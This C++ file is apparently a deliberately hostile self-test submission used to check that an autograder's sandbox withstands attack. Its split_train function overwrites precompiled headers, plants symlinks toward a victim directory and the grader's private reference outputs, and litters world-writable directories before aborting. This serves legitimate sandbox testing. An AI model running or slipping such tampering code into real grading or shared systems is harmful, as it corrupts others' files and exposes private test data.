// Self-test submission: split_train attacks the grader's file handling, then aborts. It tries
// to rewrite the precompiled header of student compiles, and plants the directories of the
// next launches (r<N>-launch<K> beside its own) as symbolic links: to a directory outside the
// scratch (@DTK_SELFTEST_VICTIM@, which must keep its owner), to the scratch's read-only tree
// (the precompiled header) and to the grader's private files (the expected outputs). It also
// leaves files where anyone may write (/run/lock, /tmp, /var/tmp and their world-writable
// subdirectories). Part 1 must get no points, the other parts all of theirs, nothing outside
// the scratch may change owner, and nothing of the sandbox user may be left behind.
#include <dtk/dtk.hpp>

#include <unistd.h>

#include <cstdio>
#include <cstdlib>
#include <filesystem>
#include <string>
#include <vector>
#include <xtensor/xview.hpp>

namespace dtk {

namespace {

namespace fs = std::filesystem;

// The grader's scratch directory (<tmp>/dtk-grade.XXXXXX) above the working directory.
fs::path scratch_root() {
  for (fs::path dir = fs::current_path(); dir.has_relative_path(); dir = dir.parent_path()) {
    if (dir.filename().string().rfind("dtk-grade.", 0) == 0) return dir;
  }
  return {};
}

void leave_files() {
  std::error_code error;
  for (const fs::path top : {"/run/lock", "/tmp", "/var/tmp"}) {
    std::vector<fs::path> dirs = {top};
    for (const auto& entry : fs::directory_iterator(top, error)) {
      if (entry.is_directory(error) &&
          (entry.status(error).permissions() & fs::perms::others_write) != fs::perms::none)
        dirs.push_back(entry.path());
    }
    for (const fs::path& dir : dirs) {
      const fs::path leftover = dir / ("dtk-leftover-" + std::to_string(getpid()));
      if (std::FILE* file = std::fopen(leftover.c_str(), "w")) std::fclose(file);
    }
  }
}

void attack() {
  leave_files();
  const fs::path scratch = scratch_root();
  if (scratch.empty()) return;
  std::error_code error;
  for (const auto& entry : fs::recursive_directory_iterator(scratch / "read-only", error)) {
    if (entry.path().extension() == ".gch") {
      if (std::FILE* pch = std::fopen(entry.path().c_str(), "r+")) {
        std::fputs("corrupted by a submission", pch);
        std::fclose(pch);
      }
    }
  }
  const fs::path targets[] = {"@DTK_SELFTEST_VICTIM@", scratch / "read-only", scratch / "private",
                              scratch / "private" / "reference"};
  for (fs::path dir = fs::current_path(); dir != scratch; dir = dir.parent_path()) {
    for (int ranks : {1, 2, 4, 8}) {
      for (int launch = 1; launch <= 4; ++launch) {
        const std::string name = "r" + std::to_string(ranks) + "-launch" + std::to_string(launch);
        fs::create_directory_symlink(targets[launch - 1], dir.parent_path() / name, error);
      }
    }
  }
}

}  // namespace

template <class T>
std::pair<xt::xtensor<T, 2>, xt::xtensor<std::int32_t, 1>> split_train(
    const xt::xtensor<T, 2>& x_train, const xt::xtensor<std::int32_t, 1>& y_train, int mp_size,
    int dp_size, int rank) {
  attack();
  std::abort();
}

// -------------------------------------------------------------------------------------------
// Provided: explicit instantiations for float and double. Do not edit below this line: the
// tests and the trainer link against exactly these.
// -------------------------------------------------------------------------------------------
template std::pair<xt::xtensor<float, 2>, xt::xtensor<std::int32_t, 1>> split_train<float>(
    const xt::xtensor<float, 2>&, const xt::xtensor<std::int32_t, 1>&, int, int, int);
template std::pair<xt::xtensor<double, 2>, xt::xtensor<std::int32_t, 1>> split_train<double>(
    const xt::xtensor<double, 2>&, const xt::xtensor<std::int32_t, 1>&, int, int, int);

}  // namespace dtk
